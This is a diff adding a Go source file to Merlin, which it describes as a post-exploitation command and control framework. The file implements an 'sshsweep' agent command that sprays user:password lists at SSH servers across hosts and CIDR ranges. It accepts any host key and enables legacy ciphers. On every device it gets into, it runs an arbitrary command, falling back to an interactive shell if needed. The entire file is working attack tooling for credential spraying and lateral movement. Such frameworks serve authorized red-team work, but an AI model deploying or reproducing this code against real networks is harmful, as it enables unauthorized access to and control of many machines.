@@ -0,0 +1,319 @@
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package commands
+
+import (
+	// Standard
+	"bytes"
+	"errors"
+	"fmt"
+	"net"
+	"strings"
+	"sync"
+	"time"
+
+	// X Packages
+	"golang.org/x/crypto/ssh"
+
+	// Merlin Main
+	"github.com/Ne0nd0g/merlin/pkg/jobs"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/cli"
+)
+
+const (
+	// sshSweepTimeout is how long connecting, authenticating, and running the command on a device can each take
+	sshSweepTimeout = 10 * time.Second
+	// sshMaxOutput is the most command output kept from each device
+	sshMaxOutput = 1 << 20
+)
+
+// sshLegacyKeyExchanges and sshLegacyCiphers add the older algorithms that switches, routers, and firewalls often
+// only support to the SSH client's defaults
+var (
+	sshLegacyKeyExchanges = []string{
+		"curve25519-sha256", "curve25519-sha256@libssh.org", "ecdh-sha2-nistp256", "ecdh-sha2-nistp384",
+		"ecdh-sha2-nistp521", "diffie-hellman-group14-sha256", "diffie-hellman-group14-sha1",
+		"diffie-hellman-group1-sha1",
+	}
+	sshLegacyCiphers = []string{
+		"aes128-gcm@openssh.com", "chacha20-poly1305@openssh.com", "aes128-ctr", "aes192-ctr", "aes256-ctr",
+		"aes128-cbc", "3des-cbc",
+	}
+)
+
+// SSHSweep tries each credential against the SSH server on every target, runs the command on the devices it logs in
+// to, and returns the device's SSH version, host key, and command output for the network map. Targets are a comma
+// separated list of hosts, host:port, and CIDR ranges or an @file with one per line. Credentials are user:password
+// pairs and the first one that works on a device is used
+// sshsweep <targets|@file> <user:password,...|@file> <command>
+func SSHSweep(cmd jobs.Command) (results jobs.Results, structured Structured) {
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, fmt.Sprintf("entering SSHSweep() with %+v", cmd))
+	}
+	if len(cmd.Args) < 3 {
+		results.Stderr = fmt.Sprintf("expected 3 or more arguments for the sshsweep command, received %d", len(cmd.Args))
+		return
+	}
+	targets, err := sweepTargets(cmd.Args[0])
+	if err != nil {
+		results.Stderr = err.Error()
+		return
+	}
+	credentials, err := sprayList(cmd.Args[1])
+	if err != nil {
+		results.Stderr = err.Error()
+		return
+	}
+	for _, credential := range credentials {
+		if !strings.Contains(credential, ":") {
+			results.Stderr = fmt.Sprintf("the %s credential is not in the user:password format", credential)
+			return
+		}
+	}
+	command := strings.Join(cmd.Args[2:], " ")
+
+	var devices []DeviceRecord
+	var mutex sync.Mutex
+	sweep(targets, func(target string) {
+		if _, _, err := net.SplitHostPort(target); err != nil {
+			target = net.JoinHostPort(target, "22")
+		}
+		device, ok := sshDevice(target, credentials, command)
+		if !ok {
+			return
+		}
+		mutex.Lock()
+		devices = append(devices, device)
+		mutex.Unlock()
+	})
+	sortDevices(devices)
+
+	results.Stdout = devicesText(devices)
+	if results.Stdout == "" {
+		results.Stdout = fmt.Sprintf("no SSH servers responded across %d targets\n", len(targets))
+	}
+	structured = newStructured("sshsweep", devices)
+	return
+}
+
+// sshDevice tries the credentials against the SSH server at target and runs the command with the first that works.
+// It returns false if there isn't an SSH server at the target
+func sshDevice(target string, credentials []string, command string) (device DeviceRecord, ok bool) {
+	device = DeviceRecord{Address: target, Protocol: "ssh"}
+	for _, credential := range credentials {
+		user, password, _ := strings.Cut(credential, ":")
+		client, err := sshLogin(target, user, password, &device)
+		if err != nil {
+			if device.Version == "" {
+				// Nothing answered as an SSH server, so there's no reason to try the rest of the credentials
+				return device, false
+			}
+			device.Error = err.Error()
+			continue
+		}
+		device.Credential = credential
+		device.Error = ""
+		device.Output, err = sshRun(client, command)
+		if err != nil {
+			device.Error = err.Error()
+		}
+		client.Close()
+		return device, true
+	}
+	return device, device.Version != ""
+}
+
+// sshLogin connects to the SSH server at target with the password and records the server's version and host key in the
+// device record even when authentication fails
+func sshLogin(target, user, password string, device *DeviceRecord) (*ssh.Client, error) {
+	config := &ssh.ClientConfig{
+		Config: ssh.Config{
+			KeyExchanges: sshLegacyKeyExchanges,
+			Ciphers:      sshLegacyCiphers,
+		},
+		User: user,
+		Auth: []ssh.AuthMethod{
+			ssh.Password(password),
+			// Network devices commonly use keyboard-interactive to prompt for the password
+			ssh.KeyboardInteractive(func(name, instruction string, questions []string, echos []bool) ([]string, error) {
+				answers := make([]string, len(questions))
+				for i := range answers {
+					answers[i] = password
+				}
+				return answers, nil
+			}),
+		},
+		HostKeyCallback: ssh.HostKeyCallback(func(hostname string, remote net.Addr, key ssh.PublicKey) error {
+			device.HostKey = ssh.FingerprintSHA256(key)
+			return nil
+		}),
+		HostKeyAlgorithms: []string{
+			ssh.KeyAlgoED25519, ssh.KeyAlgoECDSA256, ssh.KeyAlgoECDSA384, ssh.KeyAlgoECDSA521, ssh.KeyAlgoRSASHA512,
+			ssh.KeyAlgoRSASHA256, ssh.KeyAlgoRSA, ssh.KeyAlgoDSA,
+		},
+		Timeout: sshSweepTimeout,
+	}
+
+	conn, err := net.DialTimeout("tcp", target, sshSweepTimeout)
+	if err != nil {
+		return nil, fmt.Errorf("there was an error connecting to %s: %s", target, err)
+	}
+	banner := &bannerConn{Conn: conn}
+	if err = conn.SetDeadline(time.Now().Add(sshSweepTimeout)); err != nil {
+		conn.Close()
+		return nil, err
+	}
+	c, channels, requests, err := ssh.NewClientConn(banner, target, config)
+	if version := banner.version(); version != "" {
+		device.Version = version
+	}
+	if err != nil {
+		conn.Close()
+		return nil, fmt.Errorf("there was an error logging in to %s as %s: %s", target, user, err)
+	}
+	if err = conn.SetDeadline(time.Time{}); err != nil {
+		c.Close()
+		return nil, err
+	}
+	return ssh.NewClient(c, channels, requests), nil
+}
+
+// sshRun runs the command on the device and returns its output. Devices that don't support running a command directly
+// get the command typed into an interactive shell instead
+func sshRun(client *ssh.Client, command string) (string, error) {
+	session, err := client.NewSession()
+	if err != nil {
+		return "", fmt.Errorf("there was an error opening an SSH session: %s", err)
+	}
+	output := &limitedBuffer{limit: sshMaxOutput}
+	session.Stdout = output
+	session.Stderr = output
+	err = sshWait(session, func() error { return session.Run(command) })
+	session.Close()
+	var exit *ssh.ExitError
+	if err == nil || errors.As(err, &exit) {
+		return output.String(), nil
+	}
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, fmt.Sprintf("running the SSH command failed, falling back to a shell: %s", err))
+	}
+
+	session, err = client.NewSession()
+	if err != nil {
+		return "", fmt.Errorf("there was an error opening an SSH session: %s", err)
+	}
+	defer session.Close()
+	output = &limitedBuffer{limit: sshMaxOutput}
+	session.Stdout = output
+	session.Stderr = output
+	session.Stdin = strings.NewReader(command + "\nexit\n")
+	if err = session.RequestPty("vt100", 0, 512, ssh.TerminalModes{ssh.ECHO: 0}); err != nil {
+		return "", fmt.Errorf("there was an error requesting a pseudo terminal: %s", err)
+	}
+	err = sshWait(session, func() error {
+		if err := session.Shell(); err != nil {
+			return err
+		}
+		return session.Wait()
+	})
+	if err != nil && !errors.As(err, &exit) && output.Len() == 0 {
+		return "", fmt.Errorf("there was an error running the command in an SSH shell: %s", err)
+	}
+	return output.String(), nil
+}
+
+// sshWait runs fn and closes the session if it takes longer than sshSweepTimeout, which makes fn return
+func sshWait(session *ssh.Session, fn func() error) error {
+	done := make(chan error, 1)
+	go func() { done <- fn() }()
+	select {
+	case err := <-done:
+		return err
+	case <-time.After(sshSweepTimeout):
+		session.Close()
+		<-done
+		return fmt.Errorf("the command did not finish within %s", sshSweepTimeout)
+	}
+}
+
+// bannerConn is a network connection that keeps the first line the server sends, which is its SSH version
+type bannerConn struct {
+	net.Conn
+	mutex sync.Mutex
+	first []byte
+}
+
+// Read reads from the connection and keeps the bytes up to the first line break
+func (c *bannerConn) Read(b []byte) (int, error) {
+	n, err := c.Conn.Read(b)
+	c.mutex.Lock()
+	if len(c.first) < 256 && !bytes.Contains(c.first, []byte("\n")) {
+		c.first = append(c.first, b[:n]...)
+	}
+	c.mutex.Unlock()
+	return n, err
+}
+
+// version returns the server's SSH version line, skipping any lines the server sent before it
+func (c *bannerConn) version() string {
+	c.mutex.Lock()
+	defer c.mutex.Unlock()
+	for _, line := range strings.Split(string(c.first), "\n") {
+		if strings.HasPrefix(line, "SSH-") {
+			return strings.TrimSpace(line)
+		}
+	}
+	return ""
+}
+
+// limitedBuffer is a concurrency safe buffer that silently discards writes past its limit
+type limitedBuffer struct {
+	mutex sync.Mutex
+	buf   bytes.Buffer
+	limit int
+}
+
+// Write keeps as much of b as fits within the limit and always reports that all of b was written
+func (l *limitedBuffer) Write(b []byte) (int, error) {
+	l.mutex.Lock()
+	defer l.mutex.Unlock()
+	if room := l.limit - l.buf.Len(); room > 0 {
+		if len(b) > room {
+			l.buf.Write(b[:room])
+		} else {
+			l.buf.Write(b)
+		}
+	}
+	return len(b), nil
+}
+
+// Len returns the number of bytes kept
+func (l *limitedBuffer) Len() int {
+	l.mutex.Lock()
+	defer l.mutex.Unlock()
+	return l.buf.Len()
+}
+
+// String returns the bytes kept as a string
+func (l *limitedBuffer) String() string {
+	l.mutex.Lock()
+	defer l.mutex.Unlock()
+	return l.buf.String()
+}